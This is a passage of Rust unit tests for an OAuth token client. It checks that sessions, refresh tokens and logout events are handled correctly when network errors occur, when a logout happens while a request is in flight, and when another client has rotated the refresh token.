    h.http.fail(TOKEN_URL, ErrorCode::NetworkError);
    let e = api_token(&h, API_A, None).unwrap_err();
    assert_eq!(e.code(), "network_error");
    let kept = h.client.tokens().expect("the session is kept");
    assert_eq!(kept.access_token, "AT-1");
    assert_eq!(session_refresh_token(&h), "RT-1");
    assert!(api_keys(&h).is_empty());
    assert!(!h.events.borrow().iter().any(|e| e == "logout"));
}

#[test]
fn a_late_api_answer_without_rotation_leaves_the_old_refresh_token_to_the_logout() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 3600, None);
    let call = h
        .client
        .access_token_for(Some(API_A.into()), None, 30, false);
    let e = logout_while_in_flight(&h, call, 1);
    assert_eq!(e.code(), "login_required");
    assert!(h.client.tokens().is_none() && api_keys(&h).is_empty());
    assert_eq!(
        revoked(&h),
        ["AT-A"],
        "the unrotated refresh token is not revoked"
    );
}

#[test]
fn invalid_grant_after_a_logout_ends_no_session_twice() {
    // The session's own refresh, then a request for an API.
    for api in [false, true] {
        let h = harness();
        signed_in(&h);
        h.http.answer(400, r#"{"error":"invalid_grant"}"#);
        let resource = api.then(|| API_A.to_string());
        let call = h.client.access_token_for(resource, None, 30, true);
        let e = logout_while_in_flight(&h, call, 0);
        assert_eq!(e.code(), "login_required", "api: {api}");
        assert!(h.client.tokens().is_none());
        let logouts = h.events.borrow().iter().filter(|e| *e == "logout").count();
        assert_eq!(logouts, 1, "api: {api}: events {:?}", h.events.borrow());
    }
}

#[test]
fn invalid_grant_for_an_api_after_another_client_rotated_keeps_its_session() {
    // The other client's refresh rotates RT-1 while this one asks for an
    // API token with it.
    let (h, other) = signed_in_beside_another_client();
    let (refresh, api) = first_rotates_and_second_is_refused(
        &h,
        other.access_token(30, true),
        h.client
            .access_token_for(Some(API_A.into()), None, 30, false),
    );
    assert_eq!(refresh.unwrap(), "AT-2");
    let e = api.unwrap_err();
    assert_eq!(e.code(), "invalid_grant", "the refusal of the old token");
    assert_eq!(find(&form_of(&h, 2), "refresh_token"), Some("RT-1"));
    assert!(
        h.client.tokens().is_some(),
        "the good rotated session was deleted by the API request's invalid_grant"
    );
    assert_eq!(session_refresh_token(&h), "RT-2");
    assert!(!h.events.borrow().iter().any(|e| e == "logout"));
}
